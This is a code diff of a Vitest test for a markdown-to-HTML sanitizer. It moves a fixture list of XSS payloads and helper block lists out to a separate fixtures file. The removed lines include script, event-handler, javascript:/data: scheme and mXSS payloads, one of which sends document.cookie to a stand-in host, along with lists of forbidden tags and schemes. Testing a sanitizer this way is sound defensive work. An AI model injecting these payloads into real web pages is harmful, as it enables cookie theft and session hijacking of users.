@@ -1,61 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { markdownToText, renderMarkdown } from '../../../../src/lib/server/markdown/markdown.ts';
-
-const payloads: [string, string][] = [
-  ['script tag', '<script>alert(1)</script>'],
-  ['script tag split over lines', 'Hello\n\n<script>\nfetch("https://evil.example/?c=" + document.cookie)\n</script>'],
-  ['img onerror', '<img src="x" onerror="alert(1)">'],
-  ['img onerror, unquoted and unclosed', '<img src=x onerror=alert(1)//'],
-  ['svg onload', '<svg onload=alert(1)>'],
-  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
-  ['mixed-case JaVaScRiPt: link', '<a href="JaVaScRiPt:alert(1)">x</a>'],
-  ['entity-encoded &#106;avascript: link', '<a href="&#106;avascript:alert(1)">x</a>'],
-  ['tab inside java\\tscript:', '<a href="java\tscript:alert(1)">x</a>'],
-  ['data: URL link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
-  ['data: URL image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
-  ['iframe', '<iframe src="https://evil.example"></iframe>'],
-  ['object', '<object data="evil.swf"></object>'],
-  ['embed', '<embed src="evil.swf">'],
-  ['style attribute with expression()', '<p style="width: expression(alert(1))">x</p>'],
-  ['style element', '<style>body { background: url("javascript:alert(1)") }</style>'],
-  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
-  ['markdown link to javascript:', '[x](javascript:alert(1))'],
-  ['markdown link to encoded javascript:', '[x](&#x6A;avascript:alert(1))'],
-  ['markdown reference link to javascript:', '[x][r]\n\n[r]: javascript:alert(1)'],
-  ['markdown image with onerror in the URL', '![x](https://example.com/a.png" onerror="alert(1))'],
-  ['markdown image with onerror in the alt text', '![x" onerror="alert(1)](https://example.com/a.png)'],
-  ['markdown image with javascript: src', '![x](javascript:alert(1))'],
-  ['form with action', '<form action="https://evil.example"><input type="submit"></form>'],
-  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
-  ['base href', '<base href="https://evil.example/">'],
-  ['onclick on an allowed tag', '<p onclick="alert(1)">x</p>'],
-  ['onmouseover on an allowed link', '<a href="https://example.com" onmouseover="alert(1)">x</a>'],
-  ['details ontoggle', '<details open ontoggle="alert(1)">x</details>'],
-  ['input autofocus onfocus', '<input type="text" onfocus="alert(1)" autofocus>'],
-  ['mXSS through math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
-];
-
-interface Tag { name: string; attrs: [string, string][] }
-
-/**
- * The markup of the output: every real tag and its attributes. The sanitizer escapes text ("<" becomes
- * "&lt;") and quotes every attribute value (a '"' inside becomes "&quot;"), so a payload left as text,
- * or sitting inside an alt text, is not markup and cannot run.
- */
-function markup(html: string): Tag[] {
-  return [...html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)].map((m) => ({
-    name: m[1]!.toLowerCase(),
-    attrs: [...m[2]!.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map((a) => [a[1]!.toLowerCase(), a[2] ?? ''] as [string, string]),
-  }));
-}
-
-const decode = (v: string): string =>
-  v.replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
-    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
-    .replace(/&colon;/gi, ':').replace(/&amp;/g, '&').replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
-
-const forbiddenTags = ['script', 'iframe', 'object', 'embed', 'form', 'meta', 'base', 'style', 'svg', 'math', 'details'];
-const forbiddenSchemes = ['javascript:', 'vbscript:', 'data:'];
+import { decode, forbiddenSchemes, forbiddenTags, markup, payloads } from '../../../fixtures/xss.ts';
 
 describe('renderMarkdown removes anything executable', () => {
   it.each(payloads)('%s', (_name, source) => {
